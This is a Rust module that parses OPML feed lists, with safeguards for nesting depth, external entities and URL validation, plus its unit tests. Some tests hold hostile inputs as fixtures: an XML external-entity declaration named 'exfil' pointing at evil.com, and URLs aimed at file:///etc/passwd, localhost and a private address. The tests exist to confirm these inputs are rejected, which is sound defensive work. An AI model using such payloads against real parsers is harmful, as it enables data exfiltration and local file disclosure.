use quick_xml::events::{BytesStart, Event};
use quick_xml::Reader;
use std::path::Path;
use thiserror::Error;

use crate::util::validate_url;

/// SEC-003: Maximum nesting depth for `<outline>` elements.
const MAX_OPML_DEPTH: usize = 50;

#[derive(Debug, Error)]
pub enum OpmlError {
    /// SEC-003: OPML nesting depth exceeds safety limit.
    #[error("OPML nesting depth exceeds maximum of {0} levels")]
    MaxDepthExceeded(usize),

    #[error("XML parse error: {0}")]
    XmlParse(String),

    #[error("Failed to read OPML file: {0}")]
    Io(#[from] std::io::Error),
}

/// Read an OPML subscription list and return the feed URLs it names.
///
/// Every `<outline>` carrying an `xmlUrl` contributes one source, at any
/// nesting depth. URLs that fail [`validate_url`] (non-HTTP schemes,
/// localhost, private ranges) are skipped with a warning.
pub fn read_sources(path: &Path) -> Result<Vec<String>, OpmlError> {
    let content = std::fs::read_to_string(path)?;
    let sources = parse_sources(&content)?;
    tracing::debug!(path = %path.display(), count = sources.len(), "Read OPML sources");
    Ok(sources)
}

/// Extract feed URLs from OPML text, in document order.
pub fn parse_sources(content: &str) -> Result<Vec<String>, OpmlError> {
    // SEC-002: quick-xml 0.37 never expands <!ENTITY> declarations; only the
    // five XML builtins resolve, anything else is an UnrecognizedEntity error.
    let mut reader = Reader::from_str(content);
    reader.config_mut().trim_text(true);

    let mut sources = Vec::new();
    let mut depth: usize = 0;

    loop {
        match reader.read_event() {
            Ok(Event::Start(e)) if e.name().as_ref() == b"outline" => {
                depth += 1;
                if depth > MAX_OPML_DEPTH {
                    return Err(OpmlError::MaxDepthExceeded(MAX_OPML_DEPTH));
                }
                sources.extend(feed_url(&e, &reader)?);
            }
            Ok(Event::Empty(e)) if e.name().as_ref() == b"outline" => {
                sources.extend(feed_url(&e, &reader)?);
            }
            Ok(Event::End(e)) if e.name().as_ref() == b"outline" => {
                depth = depth.saturating_sub(1);
            }
            Ok(Event::Eof) => break,
            Err(e) => return Err(OpmlError::XmlParse(e.to_string())),
            _ => {}
        }
    }

    Ok(sources)
}

/// The validated `xmlUrl` of an outline, or `None` for folders and rejected
/// URLs.
fn feed_url(e: &BytesStart<'_>, reader: &Reader<&[u8]>) -> Result<Option<String>, OpmlError> {
    let Some(attr) = e
        .try_get_attribute("xmlUrl")
        .map_err(|err| OpmlError::XmlParse(err.to_string()))?
    else {
        return Ok(None);
    };

    let url = attr
        .decode_and_unescape_value(reader.decoder())
        .map_err(|err| OpmlError::XmlParse(err.to_string()))?;

    match validate_url(&url) {
        Ok(_) => Ok(Some(url.trim().to_string())),
        Err(err) => {
            tracing::warn!(url = %url, error = %err, "Skipping invalid feed URL in OPML");
            Ok(None)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn test_nested_outlines() {
        let content = r#"<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>News</title></head>
  <body>
    <outline text="World" title="World">
      <outline type="rss" text="Wire" xmlUrl="https://wire.example.com/feed.xml"/>
      <outline type="rss" text="Daily" xmlUrl="https://daily.example.com/rss"/>
    </outline>
    <outline type="rss" text="Top" xmlUrl="https://top.example.com/atom"/>
  </body>
</opml>"#;

        assert_eq!(
            parse_sources(content).unwrap(),
            vec![
                "https://wire.example.com/feed.xml",
                "https://daily.example.com/rss",
                "https://top.example.com/atom",
            ]
        );
    }

    #[test]
    fn test_escaped_query_string_decoded() {
        let content = r#"<opml version="2.0"><body>
    <outline xmlUrl="https://example.com/feed?a=1&amp;b=2"/>
</body></opml>"#;

        assert_eq!(
            parse_sources(content).unwrap(),
            vec!["https://example.com/feed?a=1&b=2"]
        );
    }

    #[test]
    fn test_rejected_urls_skipped() {
        let content = r#"<?xml version="1.0"?>
    <opml version="2.0"><body>
        <outline xmlUrl="https://valid.com/feed"/>
        <outline xmlUrl="http://192.168.1.1/feed"/>
        <outline xmlUrl="http://localhost/feed"/>
        <outline xmlUrl="file:///etc/passwd"/>
    </body></opml>"#;

        assert_eq!(parse_sources(content).unwrap(), vec!["https://valid.com/feed"]);
    }

    #[test]
    fn test_empty_body() {
        let content = r#"<opml version="2.0"><body></body></opml>"#;
        assert!(parse_sources(content).unwrap().is_empty());
    }

    #[test]
    fn test_malformed_xml_error() {
        assert!(matches!(
            parse_sources("<opml><body><outline xmlUrl=\"https://a.com\"></opml>"),
            Err(OpmlError::XmlParse(_))
        ));
    }

    #[test]
    fn test_external_entity_not_expanded() {
        let content = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY exfil SYSTEM "https://evil.com/steal">]>
<opml version="2.0">
    <body>
        <outline text="Legit Feed" xmlUrl="&exfil;"/>
    </body>
</opml>"#;

        // Either rejected outright or left unexpanded, never the entity target
        if let Ok(sources) = parse_sources(content) {
            assert!(sources.iter().all(|s| !s.contains("evil.com")));
        }
    }

    #[test]
    fn test_depth_limit() {
        let nested = |levels: usize| {
            let mut opml = String::from(r#"<opml version="2.0"><body>"#);
            opml.push_str(&r#"<outline text="level">"#.repeat(levels));
            opml.push_str(r#"<outline xmlUrl="https://deep.example.com/feed"/>"#);
            opml.push_str(&"</outline>".repeat(levels));
            opml.push_str("</body></opml>");
            opml
        };

        assert_eq!(parse_sources(&nested(50)).unwrap().len(), 1);
        let err = parse_sources(&nested(100)).unwrap_err();
        assert!(matches!(err, OpmlError::MaxDepthExceeded(50)));
    }

    #[test]
    fn test_read_sources_from_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("feeds.opml");
        std::fs::write(
            &path,
            r#"<opml version="2.0"><body><outline xmlUrl="https://a.example.com/rss"/></body></opml>"#,
        )
        .unwrap();

        assert_eq!(read_sources(&path).unwrap(), vec!["https://a.example.com/rss"]);
        assert!(matches!(
            read_sources(&dir.path().join("missing.opml")),
            Err(OpmlError::Io(_))
        ));
    }
}
